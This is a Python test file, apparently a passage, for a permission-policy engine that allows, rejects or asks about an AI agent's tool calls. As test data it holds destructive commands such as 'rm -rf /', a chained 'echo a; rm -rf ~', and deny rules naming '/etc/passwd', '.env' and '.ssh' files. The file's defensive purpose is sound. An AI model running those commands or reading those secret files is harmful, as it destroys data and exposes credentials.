    assert rule.matches(judged_as({"kind": "execute", "title": "make"}))
    assert rule.matches(judged_as({"rawInput": {"cmd": "make"}}))
    assert rule.matches(judged_as({"rawInput": {"script": "make"}}))


def test_a_kind_that_an_agent_gives_or_that_a_command_has_is_enough_to_reject() -> None:
    subject = judged_as({"kind": "read", "rawInput": {"command": "cat a"}})
    assert subject.kind == "execute"
    for kind in ("read", "execute"):
        assert reject(kind=kind).matches(subject)
    assert reject(kind="execute").matches(
        judged_as({"kind": "read", "rawInput": {"env": {"A": "1"}}})
    )
    assert reject(title="May *").matches(judged_as({"title": "Read"}, "May I?"))


def test_what_is_too_large_to_be_looked_at_is_asked_if_something_in_it_may_be_rejected() -> None:
    words = " ".join(f"a{n}/b" for n in range(20_000))
    for raw in ({"command": words}, {"value": ["x"] * 20_000}):
        subject = judged_as({"kind": "execute", "rawInput": raw})
        assert Policy([allow(kind="execute")]).decide(subject).decision == "allow"
        for rule in (reject(path="/etc/**"), Rule(decision="ask", command="rm *")):
            ruling = Policy([rule, allow(kind="execute")], "allow").decide(subject)
            assert ruling.decision == ("allow" if "command" in raw and rule.command else "ask")
        assert Policy([reject(kind="edit"), allow(kind="*")]).decide(subject).decision == "allow"
    assert not allow(kind="read").matches(replace(Subject("read"), partial=True))


@pytest.mark.parametrize("field", ["name", "uri", "description"])
def test_a_rule_that_rejects_a_path_finds_it_in_every_text_of_a_link(field: str) -> None:
    link = {"type": "resource_link", "name": "n", "uri": "x:y", field: "/etc/passwd"}
    subject = judged_as({"kind": "read", "content": [{"type": "content", "content": link}]})
    assert reject(path="/etc/**").matches(subject)


def test_a_rule_about_commands_matches_nothing_where_there_is_no_text() -> None:
    assert reject(command="* *").matches(Subject("read", title="a b"))
    assert not reject(command="* *").matches(Subject("read"))


@pytest.mark.parametrize(("more", "decision"), [(0, "allow"), (1, "ask")])
def test_so_many_words_are_tried_as_paths_and_with_one_more_a_person_is_asked(
    more: int, decision: str
) -> None:
    command = " ".join(["a"] * (MOST_WORDS + more))
    subject = judged_as({"kind": "execute", "rawInput": {"command": command}})
    policy = Policy([reject(path="/etc/**"), allow(kind="execute")])
    assert policy.decide(subject).decision == decision


@given(subjects)
def test_what_an_allow_rule_matches_the_same_patterns_reject(subject: Subject) -> None:
    for rule in (
        allow(command="*"),
        allow(path="**"),
        allow(title="*", command=""),
        allow(kind="e*", path=("/a/*", "a/**")),
        allow(name="a*"),
    ):
        if rule.matches(subject):
            assert replace(rule, decision="reject").matches(subject)


@pytest.mark.parametrize(
    ("rule", "subject", "matches"),
    [
        (allow(kind="edit", name="", command=""), Subject("edit"), True),
        (allow(kind="edit", name=""), Subject("edit", "Edit"), False),
        (allow(kind="edit", command=""), Subject("edit", command="rm"), False),
        (allow(kind="edit", path=()), Subject("edit"), True),
        (reject(kind="edit", path=()), Subject("edit", paths=("/a",)), False),
        (allow(name="*"), Subject("edit"), False),
        (reject(command="*"), Subject("edit"), False),
    ],
)
def test_an_empty_pattern_matches_only_what_is_not_there(
    rule: Rule, subject: Subject, matches: bool
) -> None:
    assert rule.matches(subject) is matches


# ---- policies --------------------------------------------------------------------------------


def test_the_default_policy_asks_about_everything() -> None:
    ruling = Policy().decide(Subject("read", title="Read a file"))
    assert (ruling.decision, ruling.rule) == ("ask", None)


@given(subjects, st.lists(st.sampled_from(["allow", "ask"]), max_size=4), st.data())
def test_a_rejection_wins_whatever_the_order(
    subject: Subject, others: list[Decision], data: st.DataObject
) -> None:
    no = reject(kind="*", source="no")
    rules = data.draw(st.permutations([no, *(Rule(decision=each, kind="*") for each in others)]))
    assert Policy(rules, "allow").rule(subject) == no
    assert Policy(rules, "allow").decide(subject).decision == "reject"


@given(subjects, st.lists(decisions.map(lambda each: Rule(decision=each, kind="r*")), max_size=4))
def test_without_a_rejection_the_first_match_decides_and_without_a_match_the_default(
    subject: Subject, rules: list[Rule]
) -> None:
    rules = [replace(rule, source=str(n)) for n, rule in enumerate(rules)]
    assume(all(rule.decision != "reject" for rule in rules))
    ruling = Policy(rules, "reject").decide(subject)
    if subject.kind == "read" and rules:
        assert (ruling.decision, ruling.rule) == (rules[0].decision, rules[0])
    else:
        assert (ruling.decision, ruling.rule) == ("reject", None)


def test_a_policy_is_a_value() -> None:
    rules = [allow(kind="read")]
    policy = Policy(rules)
    rules.clear()
    assert policy == Policy((allow(kind="read"),))
    with pytest.raises(BadRule, match="'alow' is no decision"):
        Policy((), "alow")  # type: ignore[arg-type]  # what a typo would be


# ---- rules on the command line ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "patterns"),
    [
        *((kind, {"kind": kind}) for kind in KINDS),
        ("kind:read", {"kind": "read"}),
        ("kind:*", {"kind": "*"}),
        ("name:bash", {"name": "bash"}),
        ("title:Run *", {"title": "Run *"}),
        ("path:/src/**", {"path": "/src/**"}),
        ("command:git *", {"command": "git *"}),
        ("edit,path:/src/**", {"kind": "edit", "path": "/src/**"}),
        (" edit , path: /src/** ", {"kind": "edit", "path": "/src/**"}),
        ("name:bash,command:git *", {"name": "bash", "command": "git *"}),
        ("command:cut -d, -f1", {"command": "cut -d, -f1"}),
        ("command:git log --format=%h,%s", {"command": "git log --format=%h,%s"}),
        ("command:curl a[,]http://b", {"command": "curl a[,]http://b"}),
        ("title:Read: a file", {"title": "Read: a file"}),
    ],
)
def test_a_rule_on_the_command_line_is_read(text: str, patterns: dict[str, str]) -> None:
    assert parse_rule(text, "allow") == allow(**patterns, source=f"--allow {text}")


@pytest.mark.parametrize("decision", ["allow", "reject"])
@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "neither a kind"),
        ("reed", "neither a kind"),
        ("*", "neither a kind"),
        ("read,edit", "neither a kind"),
        ("kind:exec", "no kind is 'exec'; there are read, edit"),
        ("kind:read,edit", "no kind is"),
        ("comand:rm *", "'comand' is no field; there are kind, name"),
        ("name:bash,comand:rm *", "write '[,]' for a comma"),
        ("command:curl a,http://b", "write '[,]' for a comma"),
        ("path:/a,path:/b", "two patterns for path; give two rules"),
        ("read,kind:edit", "two patterns for kind"),
        ("command:", "nothing follows 'command:'"),
        ("title:[x", "does not close it"),
        ("path:/a/[/b]", "does not close it"),
        ("path:~/.ssh/**", "nothing expands"),
        ("path:$HOME/**", "nothing expands"),
        ("path:/src/", "'/src/**' is what lies in a directory"),
        ("path:./src/*", "write 'src/*'"),
        ("path:/src/../etc/*", "write '/etc/*'"),
        ("path:/src//x", "write '/src/x'"),
        ("path:/src/**.py", "stands alone between slashes"),
    ],
)
def test_a_rule_that_cannot_be_meant_is_refused_with_what_would_be_right(
    text: str, reason: str, decision: Decision
) -> None:
    with pytest.raises(BadRule) as caught:
        parse_rule(text, decision)
    assert reason in str(caught.value)
    assert f"--{decision} {text}" in str(caught.value)
    assert isinstance(caught.value, LocalError)


@pytest.mark.parametrize(
    "patterns", [{}, {"command": ""}, {"path": ()}, {"kind": "", "name": "a"}, {"path": ("/a", "")}]
)
def test_a_rule_must_name_something(patterns: Any) -> None:
    with pytest.raises(BadRule):
        allow(**patterns)


def test_a_rule_reads_as_it_would_be_written() -> None:
    assert str(allow(kind="edit", path="/src/**", source="x")) == "allow kind:edit,path:/src/**"
    assert str(reject(path=("/a", "/b"), command="")) == "reject path:/a,path:/b,command:"


# ---- policy files ----------------------------------------------------------------------------


def test_a_policy_file_is_read() -> None:
    text = """{
        "rules": [
            {"decision": "allow", "kind": "read"},
            {"decision": "reject", "path": ["**/.env", "**/.ssh/**"]},
            {"decision": "ask", "kind": "edit", "name": "e*", "title": "*", "command": ""}
        ],
        "otherwise": "reject"
    }"""
    policy = read_policy(text, "policy.json")
    assert policy == Policy(
        [
            allow(kind="read", source="policy.json rule 1"),
            reject(path=("**/.env", "**/.ssh/**"), source="policy.json rule 2"),
            Rule(
                decision="ask",
                kind="edit",
                name="e*",
                title="*",
                command="",
                source="policy.json rule 3",
            ),
        ],
        "reject",
    )
    assert read_policy(text.encode(), "policy.json") == policy


def test_an_empty_policy_file_asks() -> None:
    assert read_policy("{}", "p") == Policy()


READ = '{"decision": "allow", "kind": "read"}'
BAD_FILES = [
    ("", None, "not JSON"),
    (b"\xff\xfe\xff", None, "not JSON"),
    ("[" * 100_000, None, "not JSON"),
    ("[]", None, "a policy is a JSON object"),
    ('{"rule": []}', None, "unknown key 'rule'; a policy has rules, otherwise"),
    ('{"rules": {}}', None, "'rules' is not a list"),
    ('{"otherwise": "Allow"}', None, "'otherwise': 'Allow' is no decision"),
    ('{"otherwise": null}', None, "'otherwise': None is no decision"),
    ('{"otherwise": ["allow"]}', None, "is no decision"),
    ('{"otherwise": "ask", "otherwise": "allow"}', None, "'otherwise' is given twice"),
    (f'{{"rules": [{READ}, "read"]}}', 2, "a rule is a JSON object"),
    ('{"rules": [{"decision": "allow", "knd": "read"}]}', 1, "unknown key 'knd'; a rule has"),
    ('{"rules": [{"decision": "allow"}]}', 1, "it names nothing"),
    ('{"rules": [{"decision": "allow", "command": ""}]}', 1, "it names nothing"),
    ('{"rules": [{"kind": "read"}]}', 1, "it has no decision"),
    (f'{{"rules": [{READ}, {{"decision": "deny", "kind": "read"}}]}}', 2, "'deny' is no decision"),
    ('{"rules": [{"decision": "allow", "kind": "reed"}]}', 1, "no kind is 'reed'"),
    ('{"rules": [{"decision": "allow", "kind": ""}]}', 1, "no kind is ''"),
    ('{"rules": [{"decision": "allow", "kind": "edit", "path": null}]}', 1, "for path is not"),
    ('{"rules": [{"decision": "allow", "kind": "edit", "path": [1]}]}', 1, "for path is not"),
    ('{"rules": [{"decision": "allow", "kind": "edit", "path": "~/x"}]}', 1, "nothing expands"),
    ('{"rules": [{"decision": "allow", "kind": "edit", "name": null}]}', 1, "for name is not"),
    ('{"rules": [{"decision": "allow", "command": ["git", "*"]}]}', 1, "for command is not"),
    ('{"rules": [{"decision": "reject", "kind": "read", "decision": "allow"}]}', 1, "given twice"),
]


@pytest.mark.parametrize(("data", "number", "reason"), BAD_FILES, ids=range(len(BAD_FILES)))
def test_a_policy_file_with_a_fault_is_refused_whole(
    data: bytes | str, number: int | None, reason: str
) -> None:
    with pytest.raises(BadPolicy) as caught:
        read_policy(data, "policy.json")
    where = "policy.json" if number is None else f"policy.json, rule {number}"
    assert str(caught.value).startswith(f"{where}: ")
    assert reason in str(caught.value)
    assert (caught.value.source, caught.value.number) == ("policy.json", number)


any_rules = st.builds(
    lambda decision, subject, kind, wild: replace(
        remembered(subject, option("reject_always")) or allow(kind="read"),
        decision=decision,
        kind=kind,
        **wild,
    ),
    decisions,
    subjects,
    st.none() | st.sampled_from([*KINDS, "e*", "[er]*"]),
    st.sampled_from([{"title": "Run *"}, {"path": "/a/**/[b]*"}, {"name": "größe\ud800\u202e"}]),
)


@given(st.lists(any_rules, max_size=4), decisions)
def test_a_written_policy_reads_as_the_same_policy(rules: list[Rule], otherwise: Decision) -> None:
    policy = Policy(rules, otherwise)
    data = write_policy(policy)
    assert data.isascii()
    from_file = [replace(rule, source=f"p rule {n}") for n, rule in enumerate(rules, 1)]
    assert read_policy(data, "p") == Policy(from_file, otherwise)


# ---- options ---------------------------------------------------------------------------------


some_options = st.lists(
    st.builds(
        PermissionOption,
        st.sampled_from([*OPTION_KINDS, "yes", "1"]),  # ids that lie
        st.sampled_from(["Allow", "Deny", "Always allow", "ja"]),
        st.sampled_from([*OPTION_KINDS, "allow", "allow_forever", "_acme_ok", "ALLOW_ONCE", ""]),
    ),
    max_size=6,
)
YES_OR_NO: tuple[Literal["allow", "reject"], ...] = ("allow", "reject")


@given(some_options, st.randoms(use_true_random=False))
def test_an_option_is_chosen_by_its_kind_alone(options: list[PermissionOption], rnd: Any) -> None:
    shuffled = [replace(each, option_id=str(n), name="?") for n, each in enumerate(options)]
    rnd.shuffle(shuffled)
    for decision in YES_OR_NO:
        chosen, again = choose(options, decision), choose(shuffled, decision)
        assert (chosen and chosen.kind) == (again and again.kind)


@given(some_options)
def test_a_policy_allows_once_or_not_at_all_and_never_picks_an_unknown_kind(
    options: list[PermissionOption],
) -> None:
    kinds = [each.kind for each in options]
    chosen = choose(options, "allow")
    assert (chosen.kind if chosen else None) == (
        "allow_once" if kinds.count("allow_once") == 1 else None
    )
    chosen = choose(options, "reject")
    offered = [kind for kind in ("reject_once", "reject_always") if kind in kinds]
    assert (chosen.kind if chosen else None) == (offered[0] if offered else None)


def test_of_two_that_allow_once_neither_is_chosen() -> None:
    options = [option("allow_once", name="This file"), option("allow_once", name="Every file")]
    assert choose(options, "allow") is None


# ---- what is remembered ----------------------------------------------------------------------


def as_wide(one: Subject, other: Subject) -> bool:
    """Whether `other` is at least what "never" for `one` was about."""
    if (one.kind, one.name) != (other.kind, other.name):
        return False
    if one.command:
        return one.command == other.command
    if one.paths:
        return not other.command and bool(
            set(map(globs.normal, other.paths)) & set(map(globs.normal, one.paths))
        )
    return not (other.command or other.paths) and one.title.split() == other.title.split()


@given(subjects)
def test_always_is_remembered_for_the_same_subject(subject: Subject) -> None:
    for kind in ("allow_always", "reject_always"):
        rule = remembered(subject, option(kind))
        assert rule is not None
        assert (rule.decision, rule.source) == (kind.partition("_")[0], "remembered")
        assert rule.matches(subject)
        assert Policy([rule]).decide(subject).rule == rule


@given(subjects, subjects, st.sampled_from(Subject.__struct_fields__))
def test_what_is_allowed_for_always_is_that_request_and_no_other(
    subject: Subject, other: Subject, field: str
) -> None:
    rule = remembered(subject, option("allow_always"))
    assert rule is not None
    near: Subject = replace(subject, **{field: getattr(other, field)})  # one thing differs
    for each in (other, near):
        assert rule.matches(each) == (each == subject)


@given(subjects, subjects, st.sampled_from(["kind", "name", "title", "paths", "command"]))
def test_what_is_rejected_for_always_is_everything_like_it(
    subject: Subject, other: Subject, field: str
) -> None:
    rule = remembered(subject, option("reject_always"))
    assert rule is not None
    near: Subject = replace(subject, **{field: getattr(other, field)})
    for each in (other, near):
        if as_wide(subject, each):
            assert rule.matches(each)


@pytest.mark.parametrize(
    ("subject", "other"),
    [
        (Subject("execute", command="ls *"), Subject("execute", command="ls -a")),
        (Subject("execute", command="ls [ab]"), Subject("execute", command="ls a")),
        (Subject("edit", paths=("/a/**",)), Subject("edit", paths=("/a/b",))),
        (Subject("edit", paths=("/a?",)), Subject("edit", paths=("/ab",))),
        (Subject(title="Run *"), Subject(title="Run x")),
        (Subject(title="Edit files"), Subject(title="Edit files", paths=("/etc/passwd",))),
        (Subject(title="Tidy"), Subject(title="Tidy", command="rm -rf /")),
        (Subject("edit", paths=("/a",)), Subject("edit", paths=("/a",), command="rm -rf /")),
    ],
)
def test_always_for_one_thing_is_not_always_for_another(subject: Subject, other: Subject) -> None:
    for kind in ("allow_always", "reject_always"):
        rule = remembered(subject, option(kind))
        assert rule is not None
        assert rule.matches(subject)
        assert not rule.matches(other)


SHOWN: dict[str, Any] = {
    "kind": "execute",
    "title": "Build",
    "rawInput": {"command": "./build.sh", "cwd": "/w"},
    "content": [{"type": "content", "content": {"type": "text", "text": "Builds it."}}],
    "locations": [{"path": "/w/build.sh"}],
}
DIFFERENT: dict[str, Any] = {
    "directory": {"rawInput": {"command": "./build.sh", "cwd": "/elsewhere"}},
    "variable": {"rawInput": {"command": "./build.sh", "cwd": "/w", "env": {"PATH": "/tmp"}}},
    "number": {"rawInput": {"command": "./build.sh", "cwd": "/w", "timeout": 9}},
    "unknown field": {"_acme/sudo": True},
    "content": {"content": []},
    "line": {"locations": [{"path": "/w/build.sh", "line": 2}]},
    "diff": {"content": [*SHOWN["content"], {"type": "diff", "path": "/w/a", "newText": "x"}]},
    "title": {"title": "Build it"},
    "kind": {"kind": "other"},
    "name": {"name": "bash"},
}


def always(call: dict[str, Any], title: str = "May I?", **fields: Any) -> Rule:
    """The rule of "always" for a request about a tool call."""
    rule = remembered(judged_as(call, title, **fields), option("allow_always"))
    assert rule is not None
    return rule


@pytest.mark.parametrize("patch", DIFFERENT.values(), ids=list(DIFFERENT))
def test_always_is_for_all_that_was_shown(patch: dict[str, Any]) -> None:
    rule = always(SHOWN)
    assert not rule.matches(judged_as({**SHOWN, **patch}))
    assert not always({**SHOWN, **patch}).matches(judged_as(SHOWN))


def test_always_is_for_what_the_request_shows_beside_the_call() -> None:
    rule = always(SHOWN)
    assert not rule.matches(judged_as(SHOWN, title="Something else"))
    assert not rule.matches(judged_as(SHOWN, description="And sends it to the press."))
    assert not rule.matches(judged_as(SHOWN, _acme=1))


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"title": "Fetch http://good"}, {"title": "Fetch http://evil"}),
        (
            {"title": "Fetch", "rawInput": {"url": "a"}},
            {"title": "Fetch", "rawInput": {"url": "b"}},
        ),
        ({"title": "Fetch"}, {"title": "Fetch", "rawInput": [1]}),
    ],
)
def test_without_command_and_path_always_is_the_whole_request(
    one: dict[str, Any], other: dict[str, Any]
) -> None:
    assert always(one).matches(judged_as(one))
    assert not always(one).matches(judged_as(other))


@pytest.mark.parametrize(
    "patch",
    [
        {"toolCallId": "u"},
        {"toolCallId": "u", "rawInput": {**SHOWN["rawInput"], "call_id": "u"}},
        {"status": "in_progress"},
        {"_meta": {"time": 12}},
    ],
    ids=["id", "id in the input", "status", "meta"],
)
def test_always_is_the_same_request_under_another_id(patch: dict[str, Any]) -> None:
    before = {**SHOWN, "rawInput": {**SHOWN["rawInput"], "call_id": "t"}}
    rule = always(before if "call_id" in patch.get("rawInput", {}) else SHOWN)
    assert rule.matches(judged_as({**SHOWN, **patch}))


def test_an_id_is_no_way_to_pass_for_what_was_allowed() -> None:
    rule = always({"toolCallId": "/good", "rawInput": {"path": "/good"}})
    assert not rule.matches(judged_as({"toolCallId": "/evil", "rawInput": {"path": "/evil"}}))
    rule = always({"toolCallId": "5", "rawInput": {"message_id": "5"}})
    assert not rule.matches(judged_as({"toolCallId": "6", "rawInput": {"message_id": "6"}}))


def test_always_is_for_what_this_client_would_do() -> None:
    asked = about({"title": "Write"})
    one, other = (
        with_shown(Subject("edit", paths=("/a",)), asked, content=[v2.JuneDiff("/a", text)])
        for text in ("x", "y")
    )
    rule = remembered(one, option("allow_always"))
    assert rule is not None
    assert rule.matches(one)
    assert not rule.matches(other)


def test_what_this_client_asks_for_itself_is_compared_with_its_description() -> None:
    def shown(**fields: Any) -> str:
        params = {"sessionId": "s", "title": "Run?", "options": [], **fields}
        return with_shown(Subject("execute"), decoded(params)).shown

    assert shown(description="a") == shown(description="a")
    assert len({shown(), shown(description="a"), shown(description="b")}) == 3


def test_always_is_for_the_call_as_it_was_before_the_request_shortened_it() -> None:
    def asked(text: str) -> Subject:
        content = [{"type": "content", "content": {"type": "text", "text": text}}]
        session = Session("s")
        update = {"sessionUpdate": "tool_call_update", "toolCallId": "t", "content": content}
        session.apply(strategies.v2_struct(update))
        request = about({"content": []})
        session.ask(1, request)
        return subject_of(request, session, before=session.permissions[1].before)

    rule = remembered(asked("echo a"), option("allow_always"))
    assert rule is not None
    assert rule.matches(asked("echo a"))
    assert not rule.matches(asked("echo a; rm -rf ~"))
    assert reject(command="rm *").matches(asked("echo a; rm -rf ~"))


def test_what_is_too_large_to_compare_is_not_allowed_for_always() -> None:
    deep: Any = "x"
    for _ in range(100):
        deep = [deep]
    for raw in (deep, ["x"] * 20_000, ["x" * 1_000_000]):
        subject = judged_as({"kind": "read", "rawInput": {"value": raw}})
        assert subject.partial
        assert remembered(subject, option("allow_always")) is None
        assert remembered(subject, option("reject_always")) is not None


@pytest.mark.parametrize("more", [0, 1])
def test_so_many_levels_of_the_input_are_looked_at_and_no_more(more: int) -> None:
    deep: Any = "x"
    for _ in range(DEEPEST - 1 + more):
        deep = [deep]
    assert judged_as({"kind": "read", "rawInput": {"value": deep}}).partial == bool(more)


@pytest.mark.parametrize("field", ["args", "env"])
def test_what_is_nested_too_deep_to_compare_is_not_allowed_for_always(field: str) -> None:
    deep: Any = "x"
    for _ in range(900):
        deep = [deep]
    request = about({"kind": "execute", "rawInput": {"command": "make", field: [deep]}})

    def judged_below(frames: int) -> Subject:
        return judged_below(frames - 1) if frames else subject_of(request, Session("s"))

    subject = judged_below(100)
    assert subject.partial
    assert remembered(subject, option("allow_always")) is None
    assert remembered(subject, option("reject_always")) is not None


def test_what_was_remembered_is_not_written_to_a_file_that_cannot_hold_it() -> None:
    with pytest.raises(BadRule, match="remembered for one session"):
        write_policy(Policy([always(SHOWN)]))


@pytest.mark.parametrize("kind", ["allow_once", "reject_once", "always", "_allow_always", ""])
def test_only_an_option_of_the_kind_always_is_remembered(kind: str) -> None:
    assert remembered(Subject("read", title="Read"), option(kind)) is None


# ---- the record ------------------------------------------------------------------------------


READ_RULE = parse_rule("read", "allow")
RECORDS: list[tuple[str | None, By, Rule | None, str]] = [
    ("allow_once", "policy", READ_RULE, "allowed by --allow read"),
    ("allow_once", "policy", allow(kind="read"), "allowed by allow kind:read"),
    ("allow_once", "policy", None, "allowed by the policy"),
    ("reject_once", "policy", parse_rule("edit", "reject"), "rejected by --reject edit"),
    (None, "policy", parse_rule("edit", "reject"), "cancelled by --reject edit: no option rejects"),
    ("allow_once", "person", None, "allowed by a person"),
    ("allow_always", "person", None, "allowed for good by a person"),
    ("reject_always", "person", None, "rejected for good by a person"),
    (None, "person", None, "cancelled by a person"),
    ("_acme_maybe", "person", None, "answered by a person"),
    ("allow_once", "remembered", READ_RULE, "allowed as answered before"),
    ("reject_once", "nobody", None, "rejected: nobody to ask"),
    (None, "nobody", None, "cancelled: nobody to ask"),
    (None, "cancel", None, "cancelled with the turn"),
    ("allow_once", "policy", allow(kind="read", source="a\nb"), "allowed by a b"),
]


@pytest.mark.parametrize(("kind", "by", "rule", "outcome"), RECORDS)
def test_a_record_is_one_line_with_the_decision_and_its_author(
    kind: str | None, by: By, rule: Rule | None, outcome: str
) -> None:
    decided = Decided(1, Subject(), "id" if kind else None, kind, by, rule)
    assert decided.outcome == outcome
    read = outcome.replace("a person", "you")  # by the person who decided
    assert str(decided) == (f"{read} [other]" if by in ("policy", "nobody") else read)
    assert decided.allowed is (kind in ("allow_once", "allow_always"))


LINES: list[tuple[dict[str, Any], str, str]] = [
    (
        {"rawInput": {"command": "git status"}},
        "execute, command: git status",
        "--allow 'command:git status' would allow it",
    ),
    (
        {"kind": "edit", "title": "Edit", "locations": [{"path": "/w/a"}]},
        "edit, path: /w/a",
        "--allow edit,path:/w/a would allow it",
    ),
    (
        {"kind": "edit", "title": "Edit files", "locations": [{"path": "/w/a"}, {"path": "b"}]},
        "edit, path: /w/a, path: b",
        (
            '{"decision": "allow", "kind": "edit", "path": ["/w/a", "b"]} in a --policy file'
            " would allow it"
        ),
    ),
    (
        {"kind": "fetch", "title": "Fetch http://x"},
        "fetch",
        "--allow 'fetch,title:Fetch http://x' would allow it",
    ),
    (
        {"kind": "read", "title": "Read *", "name": "Read"},
        "read",
        "--allow 'read,name:Read,title:Read [*]' would allow it",
    ),
    (
        {"rawInput": {"command": "ls *.py | wc"}},
        "execute, command: ls *.py | wc",
        "--allow 'command:ls [*].py | wc' would allow it",
    ),
    (
        {"rawInput": {"command": "curl a, http://b"}},
        "execute, command: curl a, http://b",
        "--allow 'command:curl a[,] http://b' would allow it",
    ),
    (
        {"rawInput": {"command": "make", "env": {"CC": "x", "A": "1"}, "cwd": "/tmp"}},
        "execute, command: make, in: /tmp, variables: CC A",
        "no rule for a command or a path covers its variables and another directory",
    ),
    (
        {"rawInput": {"script": "make\nmake test"}},
        "execute, script: make make test",
        "no rule for a command or a path covers its script",
    ),
    ({"rawInput": {"command": "a\nb"}}, "execute, command: a b", ""),
    ({"kind": "fetch", "title": "Fetch", "rawInput": {"url": "http://x"}}, "fetch", ""),
    (
        {"rawInput": {"command": "x" * 400}},
        f"execute, command: {'x' * 400}",
        "",
    ),
    (
        {"rawInput": {"command": "x" * 500}},
        f"execute, command: {'x' * 400}… (100 more characters)",
        "",
    ),
    (
        {"kind": "read", "locations": [{"path": f"/{n}"} for n in range(10)]},
        "read, " + ", ".join(f"path: /{n}" for n in range(10)),
        '{"decision": "allow", "kind": "read", "path": ['
        + ", ".join(f'"/{n}"' for n in range(10))
        + "]} in a --policy file would allow it",
    ),
    (
        {"kind": "read", "locations": [{"path": f"/{n}"} for n in range(12)]},
        "read, " + ", ".join(f"path: /{n}" for n in range(10)) + ", and 2 more paths",
        '{"decision": "allow", "kind": "read", "path": ['
        + ", ".join(f'"/{n}"' for n in range(12))
        + "]} in a --policy file would allow it",
    ),
]


@pytest.mark.parametrize(("call", "facts", "hint"), LINES, ids=range(len(LINES)))
def test_a_decision_names_what_was_judged_and_the_rule_that_would_have_matched(
    call: dict[str, Any], facts: str, hint: str
) -> None:
    subject = judged_as(call)
    assert (judged(subject), advice(subject)) == (facts, hint)
    decided = Decided(1, subject, "no", "reject_once", "nobody", advice=advice(subject))
    assert str(decided) == f"rejected: nobody to ask [{facts}]" + (f"; {hint}" if hint else "")


@given(subjects, subjects)
def test_the_rule_that_is_advised_allows_the_request_and_no_other_command_path_or_title(
    subject: Subject, other: Subject
) -> None:
    written = rule_for(subject)
    if written is None:
        return
    if written.startswith("{"):
        data = '{"rules": [' + written.removesuffix(" in a --policy file") + "]}"
        [rule] = read_policy(data, "p").rules
    else:
        rule = parse_rule(shlex.split(written)[1], "allow")
    assert rule.matches(subject)
    for each in (
        other,
        replace(subject, command=other.command),
        replace(subject, paths=other.paths),
    ):
        if rule.matches(each):
            assert each.command == subject.command or each.title == subject.command
            if subject.paths and not subject.command:
                named = set(map(globs.normal, subject.paths))
                assert set(map(globs.normal, each.paths)) <= named
            elif not subject.command:
                assert each.title.split() == subject.title.split()


def test_a_decision_without_a_person_to_ask_names_the_rule_that_asked_for_one() -> None:
    decided = Decided(1, Subject("read"), "no", "reject_once", "nobody", parse_rule("read", "ask"))
    assert str(decided) == "rejected: nobody to ask, and --ask read says to ask [read]"
    decided = Decided(1, Subject("read"), "no", "reject_once", "nobody", READ_RULE)
    assert decided.outcome == "rejected: nobody to ask, and --allow read finds no option to pick"


def test_a_record_can_be_written_down() -> None:
    decided = Decided("r", Subject("read", paths=("/a",)), "id", "allow_once", "policy", READ_RULE)
    assert msgspec.json.decode(msgspec.json.encode(decided), type=Decided) == decided


# ---- what users complain about ---------------------------------------------------------------


def test_the_kind_of_an_option_counts_and_not_its_id() -> None:
    """Approved by accident (copilot-cli#845, #4537): the first option, or one called "allow"."""
    options = [
        option("reject_once", "allow", "Allow"),
        option("_approve_all", "allow_once", "Allow once"),
        option("allow_always", "yes", "Yes, and do not ask again"),
    ]
    assert choose(options, "allow") is None  # so a person is asked
    assert choose(options, "reject") is options[0]


def test_a_policy_without_a_rule_for_a_request_does_not_approve_it() -> None:
    """Approved by accident (copilot-cli#4537): edits and commands, because reading was allowed."""
    policy = Policy([parse_rule("read", "allow"), parse_rule("command:git status", "allow")])
    for subject in (
        Subject("edit", paths=("/src/a",)),
        Subject("execute", command="rm -rf /"),
        Subject("other", title="git status"),
        Subject("execute", title="Run git status"),
        Subject("other", title="read"),
        Subject("delete"),
    ):
        assert policy.decide(subject).decision == "ask"


def test_the_question_shows_the_command_the_paths_and_the_files_of_the_diff() -> None:
    """Approving blind (zed#56594): the request itself holds an id, the session the rest."""
    session = Session("s")
    session.ask(
        1,
        about(
            {
                "kind": "execute",
                "title": "bash",
                "rawInput": {"command": "make deploy", "cwd": "/w"},
                "content": [
                    {
                        "type": "diff",
                        "changes": [{"operation": "move", "oldPath": "/w/a", "path": "/w/b"}],
                    }
                ],
            }
        ),
    )
    subject = shown_fields(subject_of(about({}), session))
    assert subject == Subject("execute", None, "bash", ("/w/a", "/w/b"), "make deploy")


def test_a_request_that_shows_nothing_is_allowed_by_no_path_and_no_command() -> None:
    """Approving blind (zed#56594): a request with nothing but an id is asked about."""
    policy = Policy([allow(path="**"), allow(command="*"), allow(name="*")])
    blind = subject_of(about({}), Session("s"))
    assert policy.decide(blind).decision == "ask"


def test_a_rejection_is_an_answer_and_not_a_cancel() -> None:
    """A deny is not `cancelled` (Memoh#972) as long as there is an option that rejects."""
    only_for_good = [option("allow_once"), option("reject_always", "never")]
    assert choose(only_for_good, "reject") is only_for_good[1]
    assert choose([option("allow_once"), option("allow_always")], "reject") is None
